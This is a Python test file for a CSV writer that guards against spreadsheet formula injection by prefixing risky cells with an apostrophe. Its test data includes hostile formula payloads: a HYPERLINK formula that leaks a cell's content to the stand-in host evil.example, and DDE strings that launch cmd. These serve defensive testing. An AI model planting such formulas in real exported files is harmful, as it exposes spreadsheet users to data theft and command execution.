"""The one CSV writer: cells that could start a spreadsheet formula (OWASP CSV injection) are
written as text; everything else, signed numbers included, is written as it is."""

from __future__ import annotations

import csv
import io

import pytest

from kluis.csvout import FORMULA_START, Writer, neutralise


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("", ""),
        ("Fenna", "Fenna"),
        ("fenna@example.com", "fenna@example.com"),
        ("'t Hart", "'t Hart"),
        ("=1+1", "'=1+1"),
        (
            '=HYPERLINK("https://evil.example/?"&A2,"x")',
            '\'=HYPERLINK("https://evil.example/?"&A2,"x")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1+1", "'-1+1"),
        ("+31 6 12345678", "+31 6 12345678"),
        ("+31612345678", "+31612345678"),
        ("-12", "-12"),
        ("-0.5", "-0.5"),
        ("- 5", "'- 5"),
        ("+", "+"),
        ("-", "-"),
        ("=", "="),
        ("a=1", "a=1"),
        (" =1", " =1"),
    ],
)
def test_neutralise(value: str, written: str) -> None:
    assert neutralise(value) == written


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}x") == f"'{start}x"


def test_the_writer_neutralises_text_cells_and_keeps_numbers() -> None:
    buffer = io.StringIO()
    writer = Writer(buffer)
    writer.writerow(["name", "line"])
    writer.writerows([["=1+1", 3], ['Fenna, "F"', -4]])
    assert buffer.getvalue().endswith("\r\n")
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "line"],
        ["'=1+1", "3"],
        ['Fenna, "F"', "-4"],
    ]
